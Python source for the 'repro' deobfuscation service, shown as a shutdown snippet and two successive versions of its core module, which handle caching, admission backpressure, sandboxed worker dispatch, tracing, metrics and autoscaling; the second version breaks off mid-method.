    print("repro serve: draining…", file=sys.stderr, flush=True)
    server.shutdown()        # stop accepting; serve_forever returns
    thread.join(timeout=10.0)
    server.server_close()    # joins in-flight handler threads
    drained = service.drain(timeout=max(30.0, config.timeout + 10.0))
    final = render_metrics(service.metrics_snapshot())
    service.close()
    print(final, file=sys.stderr, flush=True)
    print(
        "repro serve: drained cleanly"
        if drained
        else "repro serve: drain timed out; some work was dropped",
        file=sys.stderr,
        flush=True,
    )
    return 0 if drained else 1
