"""The deobfuscation service: persistent workers behind a cached front.

:class:`DeobfuscationService` is the engine under ``repro serve`` (and
usable in-process without HTTP).  A request travels:

1. **Cache / single-flight** — :meth:`submit` keys the request by
   content hash (:func:`repro.service.cache.cache_key` over normalized
   source + pipeline options).  A cached result returns immediately;
   a request identical to one already executing joins its flight and
   shares the result; otherwise the caller becomes the leader.
2. **Admission** — leaders need a slot in the bounded admission queue
   (``queue_limit``).  When the queue is full the request is rejected
   with :class:`ServiceUnavailable` (HTTP 429) instead of piling up —
   backpressure reaches the client, not the worker fleet.
3. **Execution** — a single dispatcher thread owns the
   :class:`~repro.batch.BatchPool` (which is not thread-safe), feeding
   it admitted jobs and resolving their flights as records complete.
   The pool keeps PR 1's guarantees: per-request wall-clock budget with
   SIGKILL backstop, crash isolation, respawn — so a hostile hanging
   script costs one worker restart, never a wedged service.

Telemetry: every executed record's :class:`~repro.obs.PipelineStats`
is merged (spans dropped) into a service-lifetime aggregate, exported
with the service counters by :mod:`repro.service.metrics`.

Shutdown is a drain, not a drop: :meth:`begin_drain` stops admitting,
:meth:`drain` waits for in-flight work, :meth:`close` stops the
dispatcher and the fleet.
"""

import queue
import threading
import time
from dataclasses import dataclass, field
from typing import Any, Dict, Optional

from repro.batch.pool import BatchPool
from repro.batch.task import DEFAULT_WORKER_SPEC, Task
from repro.obs import Histogram, PipelineStats
from repro.obs.export import SpanExporter
from repro.obs.trace import SpanRecorder, TraceContext
from repro.options import PipelineOptions
from repro.service.cache import (
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_ENTRIES,
    HIT,
    JOIN,
    ResultCache,
    cache_key,
)

# Statuses whose results are deterministic for a given input+options
# and therefore safe to cache.  error (environmental) and timeout
# (budget-dependent, and hard kills carry no result) are re-run on
# resubmission.
CACHEABLE_STATUSES = ("ok", "invalid")

# Extra seconds a caller waits beyond the worker budget before giving
# up on a result that the pool should already have killed.
_WAIT_MARGIN = 5.0


class ServiceUnavailable(Exception):
    """Request rejected by backpressure (queue full) or drain."""

    def __init__(self, reason: str, retry_after: float = 1.0):
        super().__init__(reason)
        self.reason = reason
        self.retry_after = retry_after


@dataclass
class ServiceConfig:
    """Tuning knobs for one service instance.

    ``queue_limit`` bounds *admitted* pipeline executions (queued +
    running); cache hits and coalesced joins bypass it.  ``timeout``
    is the per-request worker budget the pool enforces (cooperative
    deadline first, SIGKILL ``kill_grace`` later); a request may lower
    it but never raise it above this cap.

    ``trace_path`` enables span export: every request's trace —
    request/cache_lookup/admission/execute spans in the service
    process plus the worker/pipeline-phase spans returned across the
    pool's pipe — is appended to this JSONL file in the
    OpenTelemetry-compatible shape ``repro trace`` renders.  Requests
    always carry a trace_id (for histogram exemplars and responses);
    only the file write is gated on this setting.
    """

    jobs: int = 2
    timeout: float = 30.0
    kill_grace: float = 0.5
    retries: int = 1
    queue_limit: int = 64
    cache_max_entries: int = DEFAULT_MAX_ENTRIES
    cache_max_bytes: int = DEFAULT_MAX_BYTES
    cache_enabled: bool = True
    worker: str = DEFAULT_WORKER_SPEC
    start_method: Optional[str] = None
    default_options: Dict[str, Any] = field(default_factory=dict)
    trace_path: Optional[str] = None


class _Job:
    """One admitted pipeline execution crossing the dispatcher."""

    __slots__ = ("task", "key", "event", "record")

    def __init__(self, task: Task, key: str):
        self.task = task
        self.key = key
        self.event = threading.Event()
        self.record: Optional[dict] = None


class DeobfuscationService:
    """Long-running deobfuscation front end over a warm worker fleet."""

    def __init__(self, config: Optional[ServiceConfig] = None, **overrides):
        if config is None:
            config = ServiceConfig(**overrides)
        elif overrides:
            raise TypeError("pass either config or overrides, not both")
        self.config = config
        self.cache = ResultCache(
            max_entries=config.cache_max_entries,
            max_bytes=config.cache_max_bytes,
        )
        self.pool = BatchPool(
            jobs=config.jobs,
            timeout=config.timeout,
            kill_grace=config.kill_grace,
            retries=config.retries,
            worker=config.worker,
            start_method=config.start_method,
        )
        self.counters: Dict[str, int] = {
            "requests": 0,
            "cache_hits": 0,
            "coalesced": 0,
            "executions": 0,
            "rejected": 0,
            "request_timeouts": 0,
            "errors": 0,
        }
        self.pipeline_totals = PipelineStats()
        self.verify_counts: Dict[str, int] = {}
        # Latency histograms (Prometheus buckets + worst-sample trace
        # exemplars): pipeline execution time per worker run, and
        # front-door request time across all answer paths.
        self.pipeline_hist = Histogram()
        self.request_hist = Histogram()
        self.exporter: Optional[SpanExporter] = (
            SpanExporter(config.trace_path, service_name="repro-serve")
            if config.trace_path
            else None
        )
        self._gate = threading.Lock()
        self._admitted = 0
        self._draining = False
        self._started = False
        self._stop = threading.Event()
        self._jobs: "queue.Queue[_Job]" = queue.Queue()
        self._dispatcher: Optional[threading.Thread] = None
        self._started_monotonic = time.monotonic()

    # -- lifecycle ----------------------------------------------------------

    def start(self) -> "DeobfuscationService":
        """Prestart the worker fleet and the dispatcher thread."""
        if self._started:
            return self
        self._started = True
        self._started_monotonic = time.monotonic()
        self._dispatcher = threading.Thread(
            target=self._dispatch_loop, name="repro-serve-dispatch",
            daemon=True,
        )
        self._dispatcher.start()
        return self

    def begin_drain(self) -> None:
        """Stop admitting new requests; in-flight work continues."""
        self._draining = True

    @property
    def draining(self) -> bool:
        return self._draining

    def drain(self, timeout: float = 60.0) -> bool:
        """Wait for every admitted execution to finish; True if clean."""
        self.begin_drain()
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self._gate:
                if self._admitted == 0 and self._jobs.empty():
                    return True
            time.sleep(0.02)
        with self._gate:
            return self._admitted == 0 and self._jobs.empty()

    def close(self) -> None:
        """Stop the dispatcher and the worker fleet.

        Does not wait for in-flight work — call :meth:`drain` first
        for a graceful shutdown.
        """
        self._draining = True
        self._stop.set()
        if self._dispatcher is not None:
            self._dispatcher.join(timeout=5.0)
            self._dispatcher = None
        self.pool.close()
        if self.exporter is not None:
            self.exporter.close()
            self.exporter = None
        self._started = False

    def __enter__(self) -> "DeobfuscationService":
        return self.start()

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- request path -------------------------------------------------------

    def submit(
        self,
        script: str,
        options: Optional[Dict[str, Any]] = None,
        timeout: Optional[float] = None,
        verify: bool = False,
        trace: Optional[TraceContext] = None,
    ) -> dict:
        """Deobfuscate *script*; return the enriched result record.

        The record is the worker's (see :mod:`repro.batch` for the
        schema, ``script`` always embedded) plus ``cache_key``,
        ``cache_hit``, ``coalesced`` and ``trace_id``.  *options* may
        be a :class:`~repro.options.PipelineOptions` payload —
        including ``policy``, which therefore participates in the
        cache key; unknown option names raise ``TypeError``.  ``verify=True`` additionally runs the
        differential semantics-preservation check and embeds its
        verdict — verified and unverified submissions of the same
        script cache separately, since their records differ.  *trace*
        continues an incoming trace (e.g. a parsed ``traceparent``
        header): the request span parents on it instead of starting a
        fresh trace.  Raises :class:`ServiceUnavailable` under
        backpressure or drain.
        """
        if not self._started:
            raise RuntimeError("service not started — call start()")
        recorder = SpanRecorder(
            context=(
                trace.child() if trace is not None else TraceContext.new()
            ),
            process="service",
        )
        request_span = recorder.begin("request", verify=verify or None)
        started = time.perf_counter()
        try:
            record = self._submit_traced(
                script, options, timeout, verify, recorder
            )
        except BaseException:
            recorder.flush_open(status="error")
            self._finish_request(recorder, time.perf_counter() - started)
            raise
        recorder.end(request_span)
        self._finish_request(recorder, time.perf_counter() - started)
        record["trace_id"] = recorder.trace_id
        return record

    def _submit_traced(
        self,
        script: str,
        options: Optional[Dict[str, Any]],
        timeout: Optional[float],
        verify: bool,
        recorder: SpanRecorder,
    ) -> dict:
        if self._draining:
            with self._gate:
                self.counters["rejected"] += 1
            raise ServiceUnavailable("draining", retry_after=5.0)
        with self._gate:
            self.counters["requests"] += 1

        merged = dict(self.config.default_options)
        if options:
            merged.update(options)
        budget = self.config.timeout
        if timeout is not None:
            budget = max(0.0, min(timeout, budget))
        pipeline_options = PipelineOptions.from_dict(merged).replace(
            deadline_seconds=budget
        )
        opts = pipeline_options.canonical_dict()
        key_options = dict(opts)
        if verify:
            key_options["verify"] = True
        key = cache_key(script, key_options)
        wait_budget = budget + self.pool.kill_grace + _WAIT_MARGIN

        with recorder.span("cache_lookup"):
            outcome, payload = self.cache.lookup(key)
        if outcome == HIT:
            with self._gate:
                self.counters["cache_hits"] += 1
            return self._response(payload, key, cache_hit=True)
        if outcome == JOIN:
            with self._gate:
                self.counters["coalesced"] += 1
            with recorder.span("execute", coalesced=True):
                record = payload.wait(wait_budget)
            if record is None:
                with self._gate:
                    self.counters["request_timeouts"] += 1
                raise ServiceUnavailable(
                    "coalesced request did not complete", retry_after=1.0
                )
            return self._response(record, key, coalesced=True)

        # Leader: need an admission slot before touching the fleet.
        with recorder.span("admission"):
            with self._gate:
                if self._admitted >= self.config.queue_limit:
                    self.counters["rejected"] += 1
                    self.cache.abandon(key)
                    raise ServiceUnavailable("admission queue full")
                self._admitted += 1
                self.counters["executions"] += 1

        execute_span = recorder.begin("execute")
        task = Task(
            path=f"sha256:{key[:12]}",
            options=opts,
            store_script=True,
            source=script,
            verify=verify,
            # The worker's root span parents on the execute span and
            # takes the id this child context promises.
            trace=recorder.current_context().child().to_dict(),
        )
        job = _Job(task, key)
        self._jobs.put(job)
        if not job.event.wait(wait_budget):
            # The pool's SIGKILL backstop should make this unreachable;
            # defensively surface it as a retryable failure.
            with self._gate:
                self.counters["request_timeouts"] += 1
            raise ServiceUnavailable("execution overran its budget")
        recorder.end(execute_span)
        return self._response(job.record, key, cache_hit=False)

    def _finish_request(
        self, recorder: SpanRecorder, elapsed: float
    ) -> None:
        """Account one finished request: latency histogram + export."""
        with self._gate:
            self.request_hist.observe(elapsed, recorder.trace_id)
        if self.exporter is not None:
            self.exporter.export(recorder.spans)

    def _response(
        self,
        record: dict,
        key: str,
        cache_hit: bool = False,
        coalesced: bool = False,
    ) -> dict:
        out = dict(record)
        out["cache_key"] = key
        out["cache_hit"] = cache_hit
        out["coalesced"] = coalesced
        return out

    # -- dispatcher ---------------------------------------------------------

    def _dispatch_loop(self) -> None:
        """Single owner of the (non-thread-safe) pool."""
        self.pool.prestart()
        inflight: Dict[int, _Job] = {}
        while not self._stop.is_set():
            try:
                job = self._jobs.get(timeout=0.02)
            except queue.Empty:
                job = None
            if job is not None:
                ticket = self.pool.submit(job.task)
                inflight[ticket] = job
                # batch any burst that arrived meanwhile
                while True:
                    try:
                        job = self._jobs.get_nowait()
                    except queue.Empty:
                        break
                    inflight[self.pool.submit(job.task)] = job
            if inflight:
                for ticket, record in self.pool.collect(timeout=0.05):
                    finished = inflight.pop(ticket, None)
                    if finished is None:
                        continue
                    self._complete(finished, record)

    def _complete(self, job: _Job, record: dict) -> None:
        status = record.get("status")
        with self._gate:
            self._admitted -= 1
            if status == "error":
                self.counters["errors"] += 1
        # Worker-side spans (and the run's trace identity) are for this
        # request only — export them, observe the pipeline latency
        # histogram, and strip them so cached copies stay clean.
        worker_spans = record.pop("trace_spans", None)
        worker_trace_id = record.pop("trace_id", "")
        if worker_spans and self.exporter is not None:
            self.exporter.export_dicts(worker_spans)
        if "elapsed_seconds" in record:
            with self._gate:
                self.pipeline_hist.observe(
                    float(record["elapsed_seconds"]),
                    str(worker_trace_id or ""),
                )
        stats = record.get("stats")
        if isinstance(stats, dict):
            partial = PipelineStats.from_dict(stats)
            partial.spans = []
            with self._gate:
                self.pipeline_totals.merge(partial)
        verdict = (record.get("verify") or {}).get("verdict")
        if verdict:
            with self._gate:
                self.verify_counts[verdict] = (
                    self.verify_counts.get(verdict, 0) + 1
                )
        self.cache.resolve(
            job.key, record, cacheable=status in CACHEABLE_STATUSES
        )
        job.record = record
        job.event.set()

    # -- introspection ------------------------------------------------------

    @property
    def queue_depth(self) -> int:
        """Admitted executions currently queued or running."""
        with self._gate:
            return self._admitted

    def healthz(self) -> Dict[str, Any]:
        from repro import package_version

        return {
            "status": "draining" if self._draining else "ok",
            "version": package_version(),
            "workers": self.pool.worker_count,
            "jobs": self.config.jobs,
            "queue_depth": self.queue_depth,
            "queue_limit": self.config.queue_limit,
            "cache_entries": len(self.cache),
            "uptime_seconds": round(
                time.monotonic() - self._started_monotonic, 3
            ),
        }

    def metrics_snapshot(self) -> Dict[str, Any]:
        """Everything ``/metrics`` renders, as plain data."""
        with self._gate:
            counters = dict(self.counters)
            queue_depth = self._admitted
            pipeline = self.pipeline_totals.to_dict()
            verify_counts = dict(self.verify_counts)
            pipeline_hist = self.pipeline_hist.to_dict()
            request_hist = self.request_hist.to_dict()
        return {
            "counters": counters,
            "verify": verify_counts,
            "pipeline_duration_histogram": pipeline_hist,
            "request_duration_histogram": request_hist,
            "queue_depth": queue_depth,
            "queue_limit": self.config.queue_limit,
            "draining": self._draining,
            "cache": self.cache.snapshot(),
            "worker_restarts": dict(self.pool.restarts),
            "workers": self.pool.worker_count,
            "pipeline": pipeline,
            "uptime_seconds": round(
                time.monotonic() - self._started_monotonic, 3
            ),
        }
