"""The deobfuscation service: persistent workers behind a cached front.

:class:`DeobfuscationService` is the engine under ``repro serve`` (and
usable in-process without HTTP).  A request travels:

1. **Cache / single-flight** — :meth:`submit` keys the request by
   content hash (:func:`repro.service.cache.cache_key` over normalized
   source + pipeline options).  A cached result returns immediately;
   a request identical to one already executing joins its flight and
   shares the result; otherwise the caller becomes the leader.
2. **Admission** — leaders need a slot in the bounded admission queue
   (``queue_limit``).  When the queue is full the request is rejected
   with :class:`ServiceUnavailable` (HTTP 429) instead of piling up —
   backpressure reaches the client, not the worker fleet.
3. **Execution** — a single dispatcher thread owns the
   :class:`~repro.batch.BatchPool` (which is not thread-safe), feeding
   it admitted jobs and resolving their flights as records complete.
   The pool keeps PR 1's guarantees: per-request wall-clock budget with
   SIGKILL backstop, crash isolation, respawn — so a hostile hanging
   script costs one worker restart, never a wedged service.

Telemetry: every executed record's :class:`~repro.obs.PipelineStats`
is merged (spans dropped) into a service-lifetime aggregate, exported
with the service counters by :mod:`repro.service.metrics`.

Shutdown is a drain, not a drop: :meth:`begin_drain` stops admitting,
:meth:`drain` waits for in-flight work, :meth:`close` stops the
dispatcher and the fleet.
"""

import queue
import threading
import time
from dataclasses import dataclass, field
from typing import Any, Dict, Optional

from repro.batch.pool import BatchPool
from repro.batch.task import DEFAULT_WORKER_SPEC, Task
from repro.obs import Histogram, PipelineStats
from repro.obs.export import SpanExporter
from repro.obs.log import get_logger, log_tail
from repro.obs.trace import SpanRecorder, TraceContext
from repro.obs.window import RollingWindow
from repro.options import PipelineOptions
from repro.service.cache import (
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_ENTRIES,
    HIT,
    JOIN,
    cache_key,
)
from repro.service.persist import DEFAULT_COMPACT_AFTER, CachePersistence
from repro.service.shard import DEFAULT_SHARDS, ShardedResultCache

# Statuses whose results are deterministic for a given input+options
# and therefore safe to cache.  error (environmental) and timeout
# (budget-dependent, and hard kills carry no result) are re-run on
# resubmission.
CACHEABLE_STATUSES = ("ok", "invalid")

# Extra seconds a caller waits beyond the worker budget before giving
# up on a result that the pool should already have killed.
_WAIT_MARGIN = 5.0

_log = get_logger("service.core")


class ServiceUnavailable(Exception):
    """Request rejected by backpressure (queue full) or drain."""

    def __init__(self, reason: str, retry_after: float = 1.0):
        super().__init__(reason)
        self.reason = reason
        self.retry_after = retry_after


def jittered_retry_after(seconds: float) -> int:
    """A 429/503 ``Retry-After`` value with random spread.

    Every rejected client getting the same integer means they all come
    back in the same instant and the admission queue fills again — a
    self-sustaining thundering herd.  Spread retries uniformly over
    ``[base, 2*base]`` (minimum 1s) so the herd re-arrives as a
    trickle.
    """
    import random

    base = max(1.0, float(seconds))
    return int(round(base + random.uniform(0.0, base)))


@dataclass
class ServiceConfig:
    """Tuning knobs for one service instance.

    ``queue_limit`` bounds *admitted* pipeline executions (queued +
    running); cache hits and coalesced joins bypass it.  ``timeout``
    is the per-request worker budget the pool enforces (cooperative
    deadline first, SIGKILL ``kill_grace`` later); a request may lower
    it but never raise it above this cap.

    ``trace_path`` enables span export: every request's trace —
    request/cache_lookup/admission/execute spans in the service
    process plus the worker/pipeline-phase spans returned across the
    pool's pipe — is appended to this JSONL file in the
    OpenTelemetry-compatible shape ``repro trace`` renders.  Requests
    always carry a trace_id (for histogram exemplars and responses);
    only the file write is gated on this setting.
    """

    jobs: int = 2
    timeout: float = 30.0
    kill_grace: float = 0.5
    retries: int = 1
    queue_limit: int = 64
    cache_max_entries: int = DEFAULT_MAX_ENTRIES
    cache_max_bytes: int = DEFAULT_MAX_BYTES
    cache_enabled: bool = True
    cache_shards: int = DEFAULT_SHARDS
    cache_dir: Optional[str] = None
    cache_compact_after: int = DEFAULT_COMPACT_AFTER
    worker: str = DEFAULT_WORKER_SPEC
    start_method: Optional[str] = None
    default_options: Dict[str, Any] = field(default_factory=dict)
    trace_path: Optional[str] = None
    # Autoscaling: with ``max_jobs > jobs`` the dispatcher grows the
    # worker fleet one process at a time while the admitted queue
    # depth exceeds ``scale_up_depth`` per worker, and shrinks back
    # toward ``jobs`` after ``scale_down_idle`` seconds below the
    # watermark.  ``jobs`` is the floor; ``max_jobs=None`` (or equal
    # to ``jobs``) disables scaling.
    max_jobs: Optional[int] = None
    scale_up_depth: float = 2.0
    scale_down_idle: float = 3.0


class _Job:
    """One admitted pipeline execution crossing the dispatcher."""

    __slots__ = ("task", "key", "event", "record")

    def __init__(self, task: Task, key: str):
        self.task = task
        self.key = key
        self.event = threading.Event()
        self.record: Optional[dict] = None


class DeobfuscationService:
    """Long-running deobfuscation front end over a warm worker fleet."""

    def __init__(self, config: Optional[ServiceConfig] = None, **overrides):
        if config is None:
            config = ServiceConfig(**overrides)
        elif overrides:
            raise TypeError("pass either config or overrides, not both")
        self.config = config
        self.cache = ShardedResultCache(
            max_entries=config.cache_max_entries,
            max_bytes=config.cache_max_bytes,
            shards=config.cache_shards,
        )
        self.persistence: Optional[CachePersistence] = (
            CachePersistence(
                config.cache_dir,
                compact_after=config.cache_compact_after,
            )
            if config.cache_dir
            else None
        )
        self.pool = BatchPool(
            jobs=config.jobs,
            timeout=config.timeout,
            kill_grace=config.kill_grace,
            retries=config.retries,
            worker=config.worker,
            start_method=config.start_method,
        )
        self.counters: Dict[str, int] = {
            "requests": 0,
            "cache_hits": 0,
            "coalesced": 0,
            "executions": 0,
            "rejected": 0,
            "request_timeouts": 0,
            "errors": 0,
            "scale_ups": 0,
            "scale_downs": 0,
        }
        self.pipeline_totals = PipelineStats()
        self.verify_counts: Dict[str, int] = {}
        # Requests by resolved language front end (the /metrics
        # language label on the request counter).
        self.language_counts: Dict[str, int] = {}
        # Requests by resolved sandbox-policy preset (same idea).
        self.policy_counts: Dict[str, int] = {}
        # Latency histograms (Prometheus buckets + worst-sample trace
        # exemplars): pipeline execution time per worker run, and
        # front-door request time across all answer paths.
        self.pipeline_hist = Histogram()
        self.request_hist = Histogram()
        # The same request latency broken down per "language|policy"
        # pair, so per-language tails survive fleet aggregation.
        self.request_hist_by: Dict[str, Histogram] = {}
        # Rolling 1/5/15-minute view behind /statusz.
        self.window = RollingWindow()
        self.exporter: Optional[SpanExporter] = (
            SpanExporter(config.trace_path, service_name="repro-serve")
            if config.trace_path
            else None
        )
        self._gate = threading.Lock()
        self._admitted = 0
        self._draining = False
        self._started = False
        self._stop = threading.Event()
        self._jobs: "queue.Queue[_Job]" = queue.Queue()
        self._dispatcher: Optional[threading.Thread] = None
        self._started_monotonic = time.monotonic()
        self._below_since = time.monotonic()

    # -- lifecycle ----------------------------------------------------------

    def start(self) -> "DeobfuscationService":
        """Prestart the worker fleet and the dispatcher thread."""
        if self._started:
            return self
        self._started = True
        self._started_monotonic = time.monotonic()
        if self.persistence is not None:
            loaded = self.persistence.load()
            if loaded:
                self.cache.load(iter(loaded.items()))
        self._dispatcher = threading.Thread(
            target=self._dispatch_loop, name="repro-serve-dispatch",
            daemon=True,
        )
        self._dispatcher.start()
        _log.info(
            "service started",
            jobs=self.config.jobs,
            max_jobs=self.config.max_jobs,
            queue_limit=self.config.queue_limit,
            warm_start=(
                self.persistence.warm_start
                if self.persistence is not None else False
            ),
        )
        return self

    def begin_drain(self) -> None:
        """Stop admitting new requests; in-flight work continues."""
        if not self._draining:
            _log.info(
                "drain started", queue_depth=self.queue_depth
            )
        self._draining = True

    @property
    def draining(self) -> bool:
        return self._draining

    def drain(self, timeout: float = 60.0) -> bool:
        """Wait for every admitted execution to finish; True if clean."""
        self.begin_drain()
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self._gate:
                if self._admitted == 0 and self._jobs.empty():
                    return True
            time.sleep(0.02)
        with self._gate:
            return self._admitted == 0 and self._jobs.empty()

    def close(self) -> None:
        """Stop the dispatcher and the worker fleet.

        Does not wait for in-flight work — call :meth:`drain` first
        for a graceful shutdown.
        """
        self._draining = True
        self._stop.set()
        if self._dispatcher is not None:
            self._dispatcher.join(timeout=5.0)
            self._dispatcher = None
        self.pool.close()
        if self.persistence is not None:
            # Final compaction: the snapshot becomes the whole state,
            # so the next boot replays one clean file.
            self.persistence.compact(self.cache.entries())
            self.persistence.close()
        if self.exporter is not None:
            self.exporter.close()
            self.exporter = None
        _log.info("service stopped")
        self._started = False

    def __enter__(self) -> "DeobfuscationService":
        return self.start()

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- request path -------------------------------------------------------

    def submit(
        self,
        script: str,
        options: Optional[Dict[str, Any]] = None,
        timeout: Optional[float] = None,
        verify: bool = False,
        trace: Optional[TraceContext] = None,
    ) -> dict:
        """Deobfuscate *script*; return the enriched result record.

        The record is the worker's (see :mod:`repro.batch` for the
        schema, ``script`` always embedded) plus ``cache_key``,
        ``cache_hit``, ``coalesced`` and ``trace_id``.  *options* may
        be a :class:`~repro.options.PipelineOptions` payload —
        including ``policy``, which therefore participates in the
        cache key; unknown option names raise ``TypeError``.  ``verify=True`` additionally runs the
        differential semantics-preservation check and embeds its
        verdict — verified and unverified submissions of the same
        script cache separately, since their records differ.  *trace*
        continues an incoming trace (e.g. a parsed ``traceparent``
        header): the request span parents on it instead of starting a
        fresh trace.  Raises :class:`ServiceUnavailable` under
        backpressure or drain.
        """
        if not self._started:
            raise RuntimeError("service not started — call start()")
        recorder = SpanRecorder(
            context=(
                trace.child() if trace is not None else TraceContext.new()
            ),
            process="service",
        )
        request_span = recorder.begin("request", verify=verify or None)
        started = time.perf_counter()
        labels: Dict[str, str] = {}
        try:
            record = self._submit_traced(
                script, options, timeout, verify, recorder, labels
            )
        except BaseException:
            recorder.flush_open(status="error")
            self._finish_request(
                recorder, time.perf_counter() - started, labels
            )
            raise
        recorder.end(request_span)
        self._finish_request(
            recorder, time.perf_counter() - started, labels
        )
        record["trace_id"] = recorder.trace_id
        return record

    def _submit_traced(
        self,
        script: str,
        options: Optional[Dict[str, Any]],
        timeout: Optional[float],
        verify: bool,
        recorder: SpanRecorder,
        labels: Dict[str, str],
    ) -> dict:
        if self._draining:
            with self._gate:
                self.counters["rejected"] += 1
            _log.warning(
                "request rejected: draining",
                queue_depth=self._admitted,
            )
            raise ServiceUnavailable("draining", retry_after=5.0)
        with self._gate:
            self.counters["requests"] += 1
        self.window.incr("requests")

        merged = dict(self.config.default_options)
        if options:
            merged.update(options)
        budget = self.config.timeout
        if timeout is not None:
            budget = max(0.0, min(timeout, budget))
        pipeline_options = PipelineOptions.from_dict(merged).replace(
            deadline_seconds=budget
        )
        labels["language"] = pipeline_options.language
        labels["policy"] = pipeline_options.policy
        with self._gate:
            self.language_counts[pipeline_options.language] = (
                self.language_counts.get(pipeline_options.language, 0) + 1
            )
            self.policy_counts[pipeline_options.policy] = (
                self.policy_counts.get(pipeline_options.policy, 0) + 1
            )
        opts = pipeline_options.canonical_dict()
        key_options = dict(opts)
        if verify:
            key_options["verify"] = True
        key = cache_key(script, key_options)
        wait_budget = budget + self.pool.kill_grace + _WAIT_MARGIN

        with recorder.span("cache_lookup"):
            outcome, payload = self.cache.lookup(key)
        if outcome == HIT:
            with self._gate:
                self.counters["cache_hits"] += 1
            self.window.incr("cache_hits")
            return self._response(payload, key, cache_hit=True)
        if outcome == JOIN:
            with self._gate:
                self.counters["coalesced"] += 1
            self.window.incr("cache_hits")
            with recorder.span("execute", coalesced=True):
                record = payload.wait(wait_budget)
            if record is None:
                with self._gate:
                    self.counters["request_timeouts"] += 1
                self.window.incr("errors")
                _log.error(
                    "coalesced request did not complete",
                    wait_budget=round(wait_budget, 3),
                )
                raise ServiceUnavailable(
                    "coalesced request did not complete", retry_after=1.0
                )
            return self._response(record, key, coalesced=True)

        # Leader: need an admission slot before touching the fleet.
        with recorder.span("admission"):
            with self._gate:
                if self._admitted >= self.config.queue_limit:
                    self.counters["rejected"] += 1
                    self.cache.abandon(key)
                    _log.warning(
                        "request rejected: admission queue full",
                        queue_depth=self._admitted,
                        queue_limit=self.config.queue_limit,
                    )
                    raise ServiceUnavailable("admission queue full")
                self._admitted += 1
                self.counters["executions"] += 1

        execute_span = recorder.begin("execute")
        task = Task(
            path=f"sha256:{key[:12]}",
            options=opts,
            store_script=True,
            source=script,
            verify=verify,
            # The worker's root span parents on the execute span and
            # takes the id this child context promises.
            trace=recorder.current_context().child().to_dict(),
        )
        job = _Job(task, key)
        self._jobs.put(job)
        if not job.event.wait(wait_budget):
            # The pool's SIGKILL backstop should make this unreachable;
            # defensively surface it as a retryable failure.
            with self._gate:
                self.counters["request_timeouts"] += 1
            self.window.incr("errors")
            _log.error(
                "execution overran its budget",
                wait_budget=round(wait_budget, 3),
            )
            raise ServiceUnavailable("execution overran its budget")
        recorder.end(execute_span)
        return self._response(job.record, key, cache_hit=False)

    def _finish_request(
        self,
        recorder: SpanRecorder,
        elapsed: float,
        labels: Optional[Dict[str, str]] = None,
    ) -> None:
        """Account one finished request: latency histograms (total and
        per language|policy), the rolling window, span export."""
        label_key = (
            f"{labels['language']}|{labels['policy']}"
            if labels and "language" in labels
            else None
        )
        with self._gate:
            self.request_hist.observe(elapsed, recorder.trace_id)
            if label_key is not None:
                hist = self.request_hist_by.get(label_key)
                if hist is None:
                    hist = self.request_hist_by[label_key] = Histogram()
                hist.observe(elapsed, recorder.trace_id)
        self.window.observe(elapsed, recorder.trace_id)
        _log.debug(
            "request finished",
            elapsed_ms=round(elapsed * 1000, 3),
            label=label_key,
            trace_id=recorder.trace_id,
        )
        if self.exporter is not None:
            self.exporter.export(recorder.spans)

    def _response(
        self,
        record: dict,
        key: str,
        cache_hit: bool = False,
        coalesced: bool = False,
    ) -> dict:
        out = dict(record)
        out["cache_key"] = key
        out["cache_hit"] = cache_hit
        out["coalesced"] = coalesced
        return out

    # -- dispatcher ---------------------------------------------------------

    def _dispatch_loop(self) -> None:
        """Single owner of the (non-thread-safe) pool."""
        self.pool.prestart()
        inflight: Dict[int, _Job] = {}
        floor = max(1, self.config.jobs)
        ceiling = max(floor, self.config.max_jobs or floor)
        self._below_since = time.monotonic()
        while not self._stop.is_set():
            try:
                job = self._jobs.get(timeout=0.02)
            except queue.Empty:
                job = None
            if job is not None:
                ticket = self.pool.submit(job.task)
                inflight[ticket] = job
                # batch any burst that arrived meanwhile
                while True:
                    try:
                        job = self._jobs.get_nowait()
                    except queue.Empty:
                        break
                    inflight[self.pool.submit(job.task)] = job
            if ceiling > floor:
                self._autoscale(floor, ceiling)
            if inflight:
                for ticket, record in self.pool.collect(timeout=0.05):
                    finished = inflight.pop(ticket, None)
                    if finished is None:
                        continue
                    self._complete(finished, record)

    def _autoscale(self, floor: int, ceiling: int) -> None:
        """Grow/shrink the pool on queue-depth watermarks.

        Runs on the dispatcher thread (the pool's single owner).  Grow
        one worker per pass while the admitted depth exceeds
        ``scale_up_depth`` per worker; shrink one worker after the
        depth has stayed low enough for the *smaller* fleet for
        ``scale_down_idle`` seconds, so a bursty load does not flap.
        """
        with self._gate:
            depth = self._admitted
        target = self.pool.jobs
        now = time.monotonic()
        if depth > self.config.scale_up_depth * target and target < ceiling:
            self.pool.resize(target + 1)
            with self._gate:
                self.counters["scale_ups"] += 1
            self._below_since = now
            return
        fits_smaller = depth <= self.config.scale_up_depth * (target - 1)
        if target > floor and fits_smaller:
            if now - self._below_since >= self.config.scale_down_idle:
                self.pool.resize(target - 1)
                with self._gate:
                    self.counters["scale_downs"] += 1
                self._below_since = now
        else:
            self._below_since = now

    def _complete(self, job: _Job, record: dict) -> None:
        status = record.get("status")
        with self._gate:
            self._admitted -= 1
            if status == "error":
                self.counters["errors"] += 1
        if status == "error":
            self.window.incr("errors")
            _log.warning(
                "worker returned an error record",
                error=record.get("error"),
                path=record.get("path"),
            )
        elif status == "timeout":
            _log.warning(
                "request hit its worker budget",
                path=record.get("path"),
                elapsed=record.get("elapsed_seconds"),
            )
        # Worker-side spans (and the run's trace identity) are for this
        # request only — export them, observe the pipeline latency
        # histogram, and strip them so cached copies stay clean.
        worker_spans = record.pop("trace_spans", None)
        worker_trace_id = record.pop("trace_id", "")
        if worker_spans and self.exporter is not None:
            self.exporter.export_dicts(worker_spans)
        if "elapsed_seconds" in record:
            with self._gate:
                self.pipeline_hist.observe(
                    float(record["elapsed_seconds"]),
                    str(worker_trace_id or ""),
                )
        stats = record.get("stats")
        if isinstance(stats, dict):
            partial = PipelineStats.from_dict(stats)
            partial.spans = []
            with self._gate:
                self.pipeline_totals.merge(partial)
